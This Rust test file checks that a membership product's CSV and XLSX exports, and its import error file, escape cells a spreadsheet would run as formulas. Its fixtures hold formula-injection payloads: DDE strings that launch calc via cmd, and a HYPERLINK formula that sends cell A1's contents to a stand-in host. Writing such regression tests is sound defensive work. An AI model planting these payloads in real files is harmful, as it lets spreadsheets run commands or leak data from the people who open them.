//! Text that a spreadsheet would run as a formula (`=HYPERLINK(…)`,
//! `+cmd|…`, `-…`, `@SUM(…)`, a leading tab or carriage return): escaped
//! with a leading `'` in every CSV the product writes (the export and the
//! error file of an import), written as a string in an XLSX.

use calamine::{Data, Reader, Xlsx, open_workbook};
use hnd_domain::{Day, Lang};
use hnd_import::csv_cell;
use hnd_store::{Change, MemberQuery, Store};

hnd_store::both_backends!(formulas_never_reach_a_spreadsheet_as_formulas);

const NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://x.example/?q=\"&A1;\"Bấm vào đây\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

#[test]
fn a_cell_is_escaped_only_when_a_spreadsheet_would_run_it() {
    for (text, written) in [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        // Plain numbers run nothing and stay numbers.
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1,5", "-1,5"),
        // Ordinary text is untouched.
        ("Nguyễn Thị Hoà", "Nguyễn Thị Hoà"),
        ("a=1", "a=1"),
        ("", ""),
    ] {
        assert_eq!(csv_cell(text), written, "{text:?}");
    }
}

async fn formulas_never_reach_a_spreadsheet_as_formulas(store: Store) {
    let who = Change::new("kiểm thử", "kiểm thử");
    let day = Day::parse("01/03/2026").unwrap();
    store.bootstrap(false, &who).await.unwrap();
    let branch = hnd_store::testing::branch("00004-A", "Chi hội A", "00004");
    store.create_units(vec![branch], day, &who, "create").await.unwrap();
    let dir = std::env::temp_dir().join(format!("hnd-formulas-{}-{:?}", std::process::id(), store.backend()));
    std::fs::create_dir_all(&dir).unwrap();
    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut sheet = String::from("Họ và tên,Ngày sinh,Giới tính,\"Mã chi hội, tổ hội\"\n");
    for name in NAMES {
        sheet.push_str(&format!("{},1975,Nữ,00004-A\n", quote(name)));
    }
    // A refused row (no such birth date) goes to the error file as it was typed.
    sheet.push_str("@SUM(9+9),=cmd|' /C calc'!A0,Nam,00004-A\n");
    let file = dir.join("hoi-vien.csv");
    std::fs::write(&file, sheet).unwrap();
    let errors = dir.join("loi.csv");
    let summary = hnd_import::import_members(
        &store,
        &file,
        &errors,
        day,
        &|_| who.clone(),
        Lang::Vi,
        &|_, _| true,
        &mut |_| {},
        &hnd_import::ImportOptions::OPERATOR,
    )
    .await
    .unwrap();
    assert_eq!((summary.created, summary.refused), (NAMES.len(), 1), "{summary:?}");

    let cells = |path: &std::path::Path| -> Vec<String> {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_path(path)
            .unwrap();
        reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    };
    let refused = cells(&errors);
    assert!(refused.contains(&"'@SUM(9+9)".to_string()), "{refused:?}");
    assert!(refused.contains(&"'=cmd|' /C calc'!A0".to_string()), "{refused:?}");

    let query = MemberQuery {
        scope: "00004".into(),
        limit: 10,
        ..Default::default()
    };
    let csv = dir.join("xuat.csv");
    assert_eq!(
        hnd_import::export_members(&store, &csv, &query, true).await.unwrap(),
        NAMES.len()
    );
    let written = cells(&csv);
    for name in NAMES {
        assert!(written.contains(&format!("'{name}")), "{name} escaped: {written:?}");
    }
    for cell in &written {
        let cell = cell.trim_start_matches('\u{feff}');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell} reaches a spreadsheet as a formula"
        );
    }

    // In an XLSX the same names are strings, as they are, and no cell is a formula.
    let xlsx = dir.join("xuat.xlsx");
    hnd_import::export_members(&store, &xlsx, &query, true).await.unwrap();
    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let values = book.worksheet_range(&sheet).unwrap();
    for name in NAMES {
        assert!(
            values
                .used_cells()
                .any(|(_, _, v)| *v == Data::String(name.to_string())),
            "{name} is a string cell"
        );
    }
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cell");
    std::fs::remove_dir_all(&dir).ok();
}
